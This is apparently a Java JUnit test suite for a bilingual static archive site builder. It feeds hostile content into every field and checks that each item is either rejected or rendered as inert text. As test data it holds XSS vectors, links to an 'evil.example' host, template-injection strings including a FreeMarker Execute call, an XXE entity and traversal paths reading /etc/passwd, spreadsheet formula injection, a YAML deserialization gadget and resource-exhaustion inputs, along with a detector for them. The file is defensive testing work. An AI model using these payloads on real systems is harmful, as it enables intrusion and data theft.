package duizhao.trust;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.OperatingSystemMXBean;
import duizhao.cli.Invocation;
import duizhao.golden.SampleArchive;
import duizhao.site.Tree;
import java.io.IOException;
import java.io.Writer;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Content that means harm, one file a case. Each is told with its file, line and column and nothing
 * is published; or the site is built, and no page of it has anything but words.
 */
class HostileContentTest {

  private static final String REPORT = "content/reports/2020/yinchuan-homes/";
  private static final String SETTINGS = REPORT + "report.yaml";
  private static final String PAGE = "content/pages/about/en.html";

  /** A folder of the content, a file in it, and what is wrong there. */
  private static final Pattern ERROR =
      Pattern.compile(
          "(?m)^\\S*content/((?:[^/\\s]+/)*)([^/:\\s]+):\\d+:\\d+: error: .+ \\[([a-z0-9-]+)]$");

  /** How the cases ended: told, or rendered as words. */
  private static final Map<String, Integer> ENDED = new TreeMap<>();

  @TempDir private Path place;

  /**
   * One hostile file.
   *
   * @param file its path
   * @param text what stands in it
   */
  private record Case(String name, String file, String text) {
    @Override
    public String toString() {
      return name;
    }
  }

  // ---- what would run, if it were more than words ----

  /**
   * Each sets {@code window.ran}, or asks another host, or is filled in by some template engine.
   */
  private static final Map<String, String> MARKUP = new TreeMap<>();

  static {
    String[] all = {
      "script", "<script>window.ran=1</script>",
      "script in capitals", "<ScRiPt>window.ran=1</sCrIpT>",
      "script that is not closed", "<script src=//evil.example/x.js",
      "script after a comment", "<!--><script>window.ran=1</script>-->",
      "image with a handler", "<img src=x onerror=window.ran=1>",
      "image with a handler in quotes", "\"><img src=x onerror=\"window.ran=1\">",
      "drawing with a script", "<svg><script>window.ran=1</script></svg>",
      "drawing with a handler", "<svg/onload=window.ran=1>",
      "drawing that animates a link",
          "<svg><a><animate attributeName=href values=javascript:window.ran=1 /></a></svg>",
      "drawing that uses another",
          "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.ran=1>#x\"/></svg>",
      "formula with a link",
          "<math><maction xlink:href=\"javascript:window.ran=1\">x</maction></math>",
      "frame", "<iframe src=\"javascript:parent.ran=1\"></iframe>",
      "frame with a document", "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
      "object", "<object data=\"data:text/html,<script>opener.ran=1</script>\"></object>",
      "embedded", "<embed src=\"//evil.example/x.swf\">",
      "applet", "<applet code=\"X\"></applet>",
      "base", "<base href=\"//evil.example/\">",
      "refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">",
      "style sheet", "<style>body{background:url(//evil.example/x)}</style>",
      "linked style sheet", "<link rel=stylesheet href=//evil.example/x.css>",
      "style attribute", "<p style=\"background:url(//evil.example/x)\">x</p>",
      "style that imports", "<style>@import '//evil.example/x.css';</style>",
      "form", "<form action=//evil.example/><input name=password><button>Go</button></form>",
      "button of another form", "<button form=search formaction=javascript:window.ran=1>x</button>",
      "details with a handler",
          "<details open ontoggle=window.ran=1><summary>x</summary></details>",
      "focus", "<input autofocus onfocus=window.ran=1>",
      "video", "<video><source onerror=window.ran=1></video>",
      "audio", "<audio src=x onerror=window.ran=1>",
      "marquee", "<marquee onstart=window.ran=1>x</marquee>",
      "template", "<template><script>window.ran=1</script></template>",
      "noscript that ends in an attribute",
          "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
      "title that ends", "</title><script>window.ran=1</script>",
      "text area that ends", "</textarea><script>window.ran=1</script>",
      "data that ends", "</script><script>window.ran=1</script>",
      "comment in data", "<!--<script>",
      "character references", "&#60;script&#62;window.ran=1&#60;/script&#62;",
      "named references", "&lt;script&gt;window.ran=1&lt;/script&gt;",
      "quotation mark and handler", "x\" onmouseover=\"window.ran=1",
      "apostrophe and handler", "x' onmouseover='window.ran=1",
      "script in a link's words", "<a href=\"javascript:window.ran=1\">x</a>",
      "FreeMarker interpolation", "${archive.class.protectionDomain}",
      "FreeMarker sum", "${7000*7+7}",
      "FreeMarker assignment", "<#assign x=7000*7+7>${x}",
      "FreeMarker include", "<#include \"/etc/passwd\">",
      "FreeMarker macro", "<@layout.site title='x'/>",
      "FreeMarker execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
      "square FreeMarker", "[#assign x=7000*7+7][=x]",
      "hash interpolation", "#{7000*7+7}",
      "JSP expression", "<%= 7000*7+7 %>",
      "moustache", "{{7000*7+7}}{{constructor.constructor('window.ran=1')()}}",
      "processing instruction", "<?php echo 7000*7+7 ?>",
      "server-side include", "<!--#exec cmd=\"id\"-->",
      "CDATA", "]]><script>window.ran=1</script><![CDATA[",
      "entity of its own", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
      "text turned round", "\u202Egnp.exe\u2066 x",
      "invisible characters", "un\u200Bion\u200D\u2060\uFEFF",
      "look-alikes of letters", "Wоrkers’ hоmе аdmin",
      "tags that nobody sees", "x\uDB40\uDC41\uDB40\uDC7F",
      "formula for a spreadsheet", "=HYPERLINK(\"http://evil.example\",\"x\")",
      "command for a spreadsheet", "@SUM(1+1)*cmd|' /C calc'!A0",
      "many marks on one letter", "e" + "\u0301".repeat(2000),
    };
    for (int i = 0; i < all.length; i += 2) {
      MARKUP.put(all[i], all[i + 1]);
    }
  }

  private static final Map<String, String> LINKS = new TreeMap<>();

  static {
    String[] all = {
      "javascript", "javascript:window.ran=1",
      "javascript in capitals", "JaVaScRiPt:window.ran=1",
      "javascript behind a control character", "&#1;javascript:window.ran=1",
      "javascript with a tab in it", "java&#9;script:window.ran=1",
      "javascript with a line feed in it", "java&#10;script:window.ran=1",
      "javascript with an escaped colon", "javascript&colon;window.ran=1",
      "javascript in percent signs", "%6Aavascript:window.ran=1",
      "vbscript", "vbscript:msgbox(1)",
      "data", "data:text/html,<script>window.ran=1</script>",
      "data in base 64", "data:text/html;base64,PHNjcmlwdD4=",
      "data that is a picture", "data:image/svg+xml,<svg onload=window.ran=1>",
      "file", "file:///etc/passwd",
      "blob", "blob:https://evil.example/x",
      "view-source", "view-source:javascript:window.ran=1",
      "another scheme", "ms-msdt:/id PCWDiagnostic",
      "another host by slashes", "//evil.example/x",
      "another host by backslashes", "\\\\\\\\evil.example\\\\x",
      "a way up", "../../../../etc/passwd",
      "a way up in percent signs", "%2e%2e/%2e%2e/etc/passwd",
      "a reference that leads up", "report:../../x",
      "a file that leads up", "file:../../x",
      "a mark of our own", "\uE001file:x\uE002",
    };
    for (int i = 0; i < all.length; i += 2) {
      LINKS.put(all[i], all[i + 1]);
    }
  }

  private static String quoted(String words) {
    return "'" + words.replace("'", "''") + "'";
  }

  /** A report with these words in every field that takes words. */
  private static String fields(String words) {
    String both = "{zh: " + quoted("话" + words) + ", en: " + quoted("Words " + words) + "}";
    return """
        title: %1$s
        summary: %1$s
        kind: news
        source:
          newspaper: daily
          date: 2020-11-18
          page: 3
          headline: %2$s
          kicker: %2$s
          deck: %2$s
          byline: [{name: %1$s}]
        regions: []
        programmes: [homes]
        people: [{name: %1$s, role: %1$s}]
        organisations: [%1$s]
        translation: {original: zh, status: full, by: %1$s}
        """
        .formatted(both, quoted(words));
  }

  private static List<Case> cases() {
    List<Case> cases = new ArrayList<>();
    MARKUP.forEach(
        (name, words) -> {
          cases.add(new Case("fields: " + name, SETTINGS, fields(words)));
          cases.add(
              new Case("Markdown: " + name, REPORT + "en.md", "One " + words + ".\n\nTwo.\n"));
        });
    MARKUP.forEach(
        (name, words) ->
            cases.add(
                new Case(
                    "HTML: " + name,
                    PAGE,
                    "<p>Words</p>\n<div>" + words + "</div>\n<p>Words</p>\n")));
    for (String name :
        List.of("script", "image with a handler", "FreeMarker sum", "data that ends")) {
      String both = "{zh: " + quoted(MARKUP.get(name)) + ", en: " + quoted(MARKUP.get(name)) + "}";
      cases.add(
          new Case(
              "programme: " + name,
              "content/programmes.yaml",
              "- {id: homes, label: %1$s, scope: %1$s}\n".formatted(both)));
      cases.add(
          new Case(
              "newspaper: " + name,
              "content/newspapers.yaml",
              "- {id: daily, name: %s}\n".formatted(both)));
      cases.add(
          new Case(
              "glossary: " + name,
              "content/glossary.yaml",
              "- {id: x, term: %1$s, note: %1$s}\n".formatted(both)));
      cases.add(
          new Case(
              "archive: " + name,
              "content/archive.yaml",
              """
              title: %1$s
              description: %1$s
              publisher: %1$s
              languages: [{id: zh, tag: zh-Hans, name: %2$s}, {id: en, tag: en, name: %2$s}]
              licence: {id: %2$s, name: %1$s}
              """
                  .formatted(both, quoted(MARKUP.get(name)))));
      cases.add(
          new Case("page: " + name, "content/pages/about/page.yaml", "title: " + both + "\n"));
    }
    LINKS.forEach(
        (name, link) -> {
          cases.add(
              new Case("link: " + name, REPORT + "en.md", "One [x](<" + link + ">).\n\nTwo.\n"));
          cases.add(
              new Case(
                  "link in HTML: " + name,
                  PAGE,
                  "<p><a href=\"" + link + "\">x</a> <img src=\"" + link + "\" alt=x></p>\n"));
        });
    for (String field : List.of("licence.url", "base_url", "source.url")) {
      for (String link :
          List.of("javascript:window.ran=1", "data:text/html,x", "//evil.example/")) {
        cases.add(address(field, link));
      }
    }
    for (String id :
        List.of(
            "../x",
            "/etc/passwd",
            "a/b",
            "..",
            "a\\b",
            "CON",
            "x\u202Ey",
            "x\u200By",
            "hоmes",
            "<b>",
            "a b",
            "%2e%2e",
            "x\u0000",
            "",
            "-",
            "a".repeat(5000))) {
      cases.add(
          new Case(
              "id: " + shown(id),
              "content/programmes.yaml",
              "- {id: "
                  + (id.indexOf('\0') >= 0 ? "\"x\\0\"" : quoted(id))
                  + ", label: {zh: 家, en: x}, scope: {zh: 家, en: x}}\n"));
      cases.add(
          new Case(
              "picture: " + shown(id),
              SETTINGS,
              fields("x")
                  + "pictures: [{file: "
                  + (id.indexOf('\0') >= 0 ? "\"x\\0\"" : quoted(id))
                  + ", alt: {zh: 图, en: x}}]\n"));
    }
    cases.addAll(yaml());
    return cases;
  }

  private static Case address(String field, String link) {
    String settings =
        """
        title: {zh: 档, en: A}
        description: {zh: 档, en: A}
        languages: [{id: zh, tag: zh-Hans, name: 中文}, {id: en, tag: en, name: English}]
        """;
    String name = field + ": " + link;
    return switch (field) {
      case "base_url" ->
          new Case(name, "content/archive.yaml", settings + "base_url: '" + link + "'\n");
      case "licence.url" ->
          new Case(
              name,
              "content/archive.yaml",
              settings + "licence: {id: x, name: {zh: 许, en: L}, url: '" + link + "'}\n");
      default ->
          new Case(
              name,
              SETTINGS,
              fields("x").replace("  page: 3\n", "  page: 3\n  url: '" + link + "'\n"));
    };
  }

  private static List<Case> yaml() {
    List<Case> cases = new ArrayList<>();
    String[] all = {
      "type",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
      "local type", "title: !evil x\n",
      "binary", "title: !!binary aGVsbG8=\n",
      "set", "title: !!set {a, b}\n",
      "alias", "title: &t {zh: x, en: x}\nsummary: *t\n",
      "merge", "a: &a {zh: x}\ntitle: {<<: *a}\n",
      "bomb",
          "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c]\n",
      "circle", "a: &a {b: *a}\n",
      "directive", "%TAG ! tag:evil.example,2000:\n---\ntitle: !x y\n",
      "deep lists", "title: " + "[".repeat(5000) + "\n",
      "deep maps", "title: " + "{a: ".repeat(5000) + "\n",
      "deep dashes", "- ".repeat(5000) + "x\n",
      "deep question marks", "? ".repeat(5000) + "x\n",
      "octal", "title: {zh: 010, en: 0o17}\n",
      "sexagesimal", "source: {newspaper: daily, date: 190:20:30}\n",
      "number without end",
          "source: {newspaper: daily, date: 2020-11-18, page: " + "9".repeat(50_000) + "}\n",
      "exponent", "source: {newspaper: daily, date: 2020-11-18, page: 1e999999999}\n",
      "date without end", "source: {newspaper: daily, date: '" + "2020-".repeat(10_000) + "'}\n",
      "year without end", "source: {newspaper: daily, date: Y99999999999999999999}\n",
      "span of all time", "source: {newspaper: daily, date: 0001-01-01/9999-12-31}\n",
      "a hundred thousand programmes", "programmes: [" + "homes,".repeat(100_000) + "homes]\n",
      "a hundred thousand aliases", "aliases: [" + "x,".repeat(100_000) + "y]\n",
      "a hundred thousand fields",
          Stream.iterate(0, i -> i + 1)
              .limit(20_000)
              .map(i -> "f" + i + ": x\n")
              .reduce("", String::concat),
      "key that is a list", "? [a, b]\n: x\n",
      "key that is null", "~: x\n",
      "the same key", "title: {zh: a, en: b}\ntitle: {zh: a, en: b}\n",
      "escape", "title: {zh: \"\\x00\", en: \"\\u202e\"}\n",
      "escape beyond Unicode", "title: {zh: \"\\UFFFFFFFF\", en: x}\n",
      "half a pair", "title: {zh: \"\\uD800\", en: x}\n",
      "two documents", "title: {zh: a, en: b}\n---\ntitle: {zh: a, en: b}\n",
      "line separators", "title: {zh: a\u2028b, en: a\u0085b}\n",
    };
    for (int i = 0; i < all.length; i += 2) {
      cases.add(new Case("YAML: " + all[i], SETTINGS, all[i + 1]));
    }
    return cases;
  }

  private static String shown(String text) {
    return text.length() > 20 ? text.length() + " letters" : text.isEmpty() ? "empty" : text;
  }

  // ---- the test ----

  /** What the cases are put into is sound by itself: otherwise all would be told, for nothing. */
  @Test
  void harmlessWordsArePublishedInEveryField() throws IOException {
    for (Case harmless :
        List.of(
            new Case("", SETTINGS, fields("x")),
            new Case("", REPORT + "en.md", "One.\n\nTwo.\n"),
            new Case("", "content/pages/about/en.html", "<p>Words</p>\n"),
            address("licence.url", "https://example.org/"),
            address("base_url", "https://example.org/"),
            address("source.url", "https://example.org/"))) {
      isToldWithItsPlaceOrIsWordsOnThePage(harmless);
      assertThat(place.resolve("site")).as(harmless.text).exists();
      Tree.delete(place.resolve("content"));
      Tree.delete(place.resolve("site"));
    }
  }

  /** Those that change a file of the whole archive, or that no other report can stand beside. */
  static List<Case> alone() {
    return cases().stream().filter(hostile -> folder(hostile, 0) == null).toList();
  }

  /** Where a case can stand with others in one archive; null where it has to be alone. */
  private static @Nullable String folder(Case hostile, int number) {
    boolean report = hostile.file.startsWith(REPORT) && !hostile.name.startsWith("YAML");
    return report
        ? "reports/2020/case-" + number + "/"
        : hostile.file.equals(PAGE) ? "pages/case-" + number + "/" : null;
  }

  /**
   * All that can stand in a report or a page of its own do so, in one archive. Those that are told
   * are taken out, until what is left is published; each of these has its pages.
   */
  @Test
  void eachOfManyIsToldWithItsPlaceOrIsWordsOnItsPages() throws IOException {
    SampleArchive archive = SampleArchive.in(place);
    Map<String, String> report = new TreeMap<>();
    for (String name : List.of("report.yaml", "zh.md", "en.md")) {
      report.put(name, Files.readString(place.resolve(REPORT + name)));
    }
    Map<String, Case> left = new TreeMap<>();
    for (Case hostile : cases()) {
      String folder = folder(hostile, left.size());
      if (folder == null) {
        continue;
      }
      Map<String, String> files =
          new TreeMap<>(
              folder.startsWith("reports/")
                  ? report
                  : Map.of("page.yaml", "title: {zh: 关于, en: About}\n"));
      files.put(name(hostile), hostile.text);
      for (Map.Entry<String, String> file : files.entrySet()) {
        archive.with("content/" + folder + file.getKey(), file.getValue());
      }
      left.put(folder, hostile);
    }
    assertThat(left).hasSizeGreaterThan(200);
    Invocation build = archive.run("build", "--theme", "duizhao");
    while (build.exit() == 1) {
      assertThat(archive.site()).doesNotExist();
      assertThat(build.err()).doesNotContain("\tat ", "fault of the program", "root:x:");
      Map<String, String> told = new TreeMap<>();
      Matcher error = ERROR.matcher(build.err());
      while (error.find()) {
        Case hostile = left.get(error.group(1));
        assertThat(hostile).as(error.group()).isNotNull();
        if (error.group(2).equals(name(hostile))) {
          told.putIfAbsent(error.group(1), error.group(3));
        }
      }
      assertThat(told).as(build.err()).isNotEmpty();
      for (Map.Entry<String, String> one : told.entrySet()) {
        ENDED.merge("told as " + one.getValue(), 1, Integer::sum);
        left.remove(one.getKey());
        Tree.delete(archive.content().resolve(one.getKey()));
      }
      build = archive.run("build", "--theme", "duizhao");
    }
    assertIsWords(archive, build);
    assertThat(left).hasSizeGreaterThan(100);
    for (Map.Entry<String, Case> words : left.entrySet()) {
      String folder = words.getKey().replace("reports/2020/", "reports/").replace("pages/", "");
      assertThat(archive.site().resolve("en/" + folder + "index.html"))
          .as(words.getValue().name)
          .content()
          .contains("<main");
      ENDED.merge("rendered as words", 1, Integer::sum);
    }
  }

  private static String name(Case hostile) {
    return hostile.file.substring(hostile.file.lastIndexOf('/') + 1);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("alone")
  void isToldWithItsPlaceOrIsWordsOnThePage(Case hostile) throws IOException {
    SampleArchive archive = SampleArchive.in(place);
    archive.with("content/pages/about/page.yaml", "title: {zh: 关于, en: About}\n");
    if (!hostile.file.endsWith("en.html")) {
      archive.with("content/pages/about/en.md", "Words.\n");
    }
    archive.with(hostile.file, hostile.text);
    Invocation build = archive.run("build", "--theme", "duizhao");
    if (build.exit() == 1) {
      assertThat(build.err())
          .doesNotContain("\tat ", "fault of the program", "root:x:")
          .hasSizeLessThan(40 << 20)
          .contains("/" + hostile.file.substring(8) + ":");
      assertThat(archive.site()).doesNotExist();
      Matcher error = ERROR.matcher(build.err());
      assertThat(error.find()).as(build.err()).isTrue();
      ENDED.merge("told as " + error.group(3), 1, Integer::sum);
      return;
    }
    assertIsWords(archive, build);
    ENDED.merge("rendered as words", 1, Integer::sum);
  }

  /** A site was made, and there is nothing in it but what is ours, and words. */
  private static void assertIsWords(SampleArchive archive, Invocation build) throws IOException {
    assertThat(build.exit()).as(build.err()).isZero();
    assertThat(build.err()).doesNotContain("\tat ", "root:x:").hasSizeLessThan(40 << 20);
    List<String> found = new ArrayList<>();
    try (Stream<Path> files = Files.walk(archive.site())) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        String path = archive.site().relativize(file).toString();
        String text = Files.readString(file);
        if (path.endsWith(".html")) {
          harm(Jsoup.parse(text, "https://here.example/" + path), path, found);
        } else if (path.endsWith(".csv")) {
          text.lines()
              .filter(line -> line.matches("(.*,)?\"?[=@].*"))
              .forEach(line -> found.add(path + ": a formula: " + line));
        }
        if (text.contains("49007") && !path.equals("SHA256SUMS")) {
          found.add(path + ": a template was filled in");
        }
      }
    }
    assertThat(found).as(build.err()).isEmpty();
  }

  /** What of a page is neither words nor ours. */
  private static void harm(Document page, String path, List<String> found) {
    for (Element element : page.getAllElements()) {
      String name = element.normalName();
      boolean data = element.attr("type").equals("application/ld+json");
      if (name.equals("script")
              && !data
              && !element.attr("src").matches("(/|/archive/|(\\.\\./)*)assets/[a-z./0-9]+")
          || name.equals("script") && data && element.data().contains("<")
          || List.of(
                  "iframe", "object", "embed", "applet", "base", "style", "math", "audio", "video")
              .contains(name)
          || name.equals("form")
              && !element.attr("action").matches("(\\.\\./)*[a-z/-]*index\\.html|")
          || name.equals("link") && element.attr("href").contains("evil")
          || name.equals("meta") && element.attr("http-equiv").equals("refresh")) {
        found.add(path + ": " + element.outerHtml());
      }
      for (Attribute attribute : element.attributes()) {
        String value = attribute.getValue().replaceAll("[\\p{Cntrl}\\s]", "");
        boolean link =
            List.of("href", "src", "action", "formaction", "data", "srcset", "xlink:href")
                .contains(attribute.getKey());
        // Citations are offered as files that the page has in itself.
        boolean download =
            name.equals("a")
                && element.hasAttr("download")
                && value.matches(
                    "data:application/(x-bibtex|x-research-info-systems|vnd\\.citationstyles\\.csl\\+json);charset=utf-8,[\\w%.~!*'()-]*");
        boolean external = value.matches("(?i)(//|\\\\).*") || value.contains("/etc/passwd");
        if (attribute.getKey().startsWith("on")
            || attribute.getKey().equals("style")
            || attribute.getKey().equals("srcdoc")
            || link
                && !download
                && (external
                    || value.matches(
                        "(?i)(javascript|data|vbscript|file|blob|view-source|ms-msdt):.*"))) {
          found.add(path + ": " + element.outerHtml());
        }
      }
    }
  }

  @AfterAll
  static void tell() {
    int all = ENDED.values().stream().mapToInt(Integer::intValue).sum();
    System.out.println("HostileContentTest: " + all + " files: " + ENDED);
    assertThat(cases()).hasSizeGreaterThan(300);
  }

  // ---- giants ----

  /**
   * Files that are too much for any memory, in a process with 512 MB and a minute of CPU each: 50
   * MB in one line, lists of 100,000, a million of what nests. Each is told or taken; where a
   * million mistakes are more than the memory holds, that is told.
   */
  @Test
  void giantsEndInLittleMemoryAndTime() throws Exception {
    SampleArchive archive = SampleArchive.in(place);
    Process process =
        CrashTest.java(
            List.of("env", "JAVA_TOOL_OPTIONS=-Xmx512m"), Giants.class, archive.folder());
    String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(process.waitFor(5, TimeUnit.MINUTES)).isTrue();
    System.out.print(said);
    assertThat(said).contains("HostileContentTest: 14 giants").doesNotContain("Exception", "\tat ");
    assertThat(process.exitValue()).isZero();
  }

  /** Checks an archive with one giant after the other. */
  static final class Giants {

    /** Of the process; the time on the clock would be that of the whole machine. */
    private static final OperatingSystemMXBean CPU =
        ManagementFactory.getPlatformMXBean(OperatingSystemMXBean.class);

    public static void main(String[] arguments) throws IOException {
      SampleArchive archive = new SampleArchive(Path.of(arguments[0]));
      Object[][] giants = {
        // file, start, what is repeated, how often, end
        {REPORT + "en.md", "", "x", 50_000_000, ""},
        {REPORT + "en.md", "", "x", 2_000_000, ""},
        {REPORT + "en.md", "", "word ", 400_000, ""},
        {REPORT + "en.md", "", "工", 600_000, ""},
        {REPORT + "en.md", "", "[a](b) ", 290_000, ""},
        {REPORT + "en.md", "", "**a** `b` ", 190_000, ""},
        {REPORT + "en.md", "", "> ", 1_000_000, ""},
        {REPORT + "en.md", "", "x\n\n", 600_000, ""},
        {REPORT + "en.md", "|-".repeat(500_000) + "\n", "|-", 500_000, ""},
        {REPORT + "en.md", "", "34 million ", 180_000, ""},
        {SETTINGS, "programmes: [", "x, ", 100_000, "]\n"},
        {SETTINGS, "x: '", "y", 2_000_000, "'\n"},
        {SETTINGS, "", "[", 2_000_000, ""},
        {"content/glossary.yaml", "", "- {id: x, term: {zh: 家, en: home}}\n", 50_000, ""},
      };
      for (Object[] giant : giants) {
        Path file = archive.folder().resolve((String) giant[0]);
        byte[] before = Files.exists(file) ? Files.readAllBytes(file) : null;
        try (Writer text = Files.newBufferedWriter(file)) {
          text.write((String) giant[1]);
          for (int n = 0; n < (int) giant[3]; n++) {
            text.write((String) giant[2]);
          }
          text.write((String) giant[4]);
        }
        long start = CPU.getProcessCpuTime();
        Invocation check = archive.run("check");
        long millis = (CPU.getProcessCpuTime() - start) / 1_000_000;
        System.out.println(
            giant[3]
                + " times "
                + giant[2].toString().strip()
                + ": exit "
                + check.exit()
                + ", "
                + millis
                + " ms of CPU");
        boolean told =
            check.exit() <= 1 || check.err().startsWith("duizhao: there is too much content");
        if (!told || millis > 60_000) {
          System.out.println(check.err());
          System.exit(1);
        }
        if (before == null) {
          Files.delete(file);
        } else {
          Files.write(file, before);
        }
      }
      System.out.println("HostileContentTest: " + giants.length + " giants");
    }
  }
}
